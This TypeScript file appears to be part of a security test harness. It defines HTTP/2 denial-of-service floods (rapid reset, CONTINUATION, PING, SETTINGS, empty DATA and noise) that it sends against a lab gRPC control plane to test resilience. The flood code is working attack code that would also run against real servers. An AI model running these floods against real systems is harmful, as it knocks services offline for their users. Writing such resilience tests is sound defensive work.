import { once } from 'node:events';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Lab } from '../../bench/lab/lab.js';
import type { Attack } from '../attack.js';
import { startAttacked, TOKENS } from '../lab/control-plane.js';
import { FRAME, frame, headerBlock, PREFACE } from '../../support/grpc/http2-frames.js';

/** How long an attacker goes on who is not stopped. Milliseconds. */
const ATTACK_MS = 3_000;
/** Bytes that are written at once. */
const CHUNK = 64 * 1_024;

const GET = {
  ':method': 'POST',
  ':scheme': 'http',
  ':path': '/switchboard.v1.RegistryService/GetServer',
  ':authority': 'localhost',
  'content-type': 'application/grpc',
  te: 'trailers',
};
const GET_HEADERS = headerBlock(GET);
const READER_HEADERS = headerBlock({ ...GET, authorization: `Bearer ${TOKENS.reader}` });

interface FloodAttack extends Pick<Attack, 'name' | 'about'> {
  /** The n-th frames of the flood, from 0. */
  readonly frames: (n: number) => Buffer;
}

/** A peer without a token that sends one kind of frame as fast as it can. */
function floodAttack({ name, about, frames }: FloodAttack): Attack {
  return {
    name,
    about,
    target: 'control plane',
    maxGrowthMiB: 64,
    async open(lab) {
      const { address, ...attacked } = await startAttacked(lab);
      return { ...attacked, attack: () => flood(lab, address, frames) };
    },
  };
}

async function flood(lab: Lab, address: string, frames: FloodAttack['frames']): Promise<string> {
  const socket = await connect(lab, address);
  // Each wait for room leaves a listener until there is room again.
  socket.setMaxListeners(0);
  socket.resume();
  socket.write(Buffer.concat([PREFACE, frame({ type: FRAME.settings })]));
  const end = performance.now() + ATTACK_MS;
  let sent = 0;
  while (!socket.destroyed && performance.now() < end) {
    const chunk: Buffer[] = [];
    for (let size = 0; size < CHUNK; sent += 1) {
      const next = frames(sent);
      chunk.push(next);
      size += next.length;
    }
    const isRoom = socket.write(Buffer.concat(chunk));
    if (!isRoom) await Promise.race([until(socket, 'drain'), until(socket, 'close'), sleep(100)]);
  }
  return socket.destroyed ? 'the connection was closed' : 'ignored or answered';
}

// Not `once`, which rejects when the socket breaks: here that is what may happen.
function until(socket: net.Socket, event: 'drain' | 'close'): Promise<void> {
  return new Promise((resolve) => socket.once(event, () => resolve()));
}

/** A plain socket to an address; gone with the lab. Errors only close it. */
export async function connect(lab: Lab, address: string): Promise<net.Socket> {
  const [host = '', port = ''] = address.split(':');
  const socket = net.connect({ host, port: Number(port) });
  lab.defer(() => void socket.destroy());
  await once(socket, 'connect');
  socket.on('error', () => undefined);
  return socket;
}

const END_STREAM = 0x1;
const ONE_HEADER = 0x4;
const streamOf = (n: number): number => (2 * n + 1) % 2 ** 31;

/** Floods of frames, none of which finishes a request. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  floodAttack({
    name: 'rapid reset',
    about: 'Streams that are opened and reset at once (CVE-2023-44487).',
    frames: (n) =>
      Buffer.concat([
        frame({
          type: FRAME.headers,
          flags: ONE_HEADER,
          stream: streamOf(n),
          payload: GET_HEADERS,
        }),
        frame({ type: FRAME.rstStream, stream: streamOf(n), payload: Buffer.alloc(4, 8) }),
      ]),
  }),
  floodAttack({
    name: 'rapid reset with a token',
    about: 'The same with the token of a reader.',
    frames: (n) =>
      Buffer.concat([
        frame({
          type: FRAME.headers,
          flags: ONE_HEADER,
          stream: streamOf(n),
          payload: READER_HEADERS,
        }),
        frame({ type: FRAME.rstStream, stream: streamOf(n), payload: Buffer.alloc(4, 8) }),
      ]),
  }),
  floodAttack({
    name: 'calls without credentials',
    about: 'Calls without credentials and without a body, as fast as they can be sent.',
    frames: (n) =>
      frame({
        type: FRAME.headers,
        flags: ONE_HEADER | END_STREAM,
        stream: streamOf(n),
        payload: GET_HEADERS,
      }),
  }),
  floodAttack({
    name: 'calls with a token',
    about: 'Calls of a reader without a body, as fast as they can be sent.',
    frames: (n) =>
      frame({
        type: FRAME.headers,
        flags: ONE_HEADER | END_STREAM,
        stream: streamOf(n),
        payload: READER_HEADERS,
      }),
  }),
  floodAttack({
    name: 'PING flood',
    about: 'PING frames, each of which wants an answer.',
    frames: () => frame({ type: FRAME.ping, payload: Buffer.alloc(8) }),
  }),
  floodAttack({
    name: 'SETTINGS flood',
    about: 'SETTINGS frames, each of which wants an acknowledgement.',
    frames: () => frame({ type: FRAME.settings }),
  }),
  floodAttack({
    name: 'CONTINUATION flood',
    about: 'One header block without an end (CVE-2024-27316).',
    frames: (n) =>
      n === 0
        ? frame({ type: FRAME.headers, stream: 1, payload: GET_HEADERS })
        : frame({
            type: FRAME.continuation,
            stream: 1,
            payload: headerBlock({ [`x-${String(n)}`]: 'x'.repeat(1_000) }),
          }),
  }),
  floodAttack({
    name: 'empty DATA frames',
    about: 'A request whose body is DATA frames without a byte.',
    frames: (n) =>
      n === 0
        ? frame({ type: FRAME.headers, flags: ONE_HEADER, stream: 1, payload: GET_HEADERS })
        : frame({ type: FRAME.data, stream: 1 }),
  }),
  floodAttack({
    name: 'noise',
    about: 'Bytes that are no HTTP/2.',
    frames: (n) => Buffer.alloc(1_024, n),
  }),
];
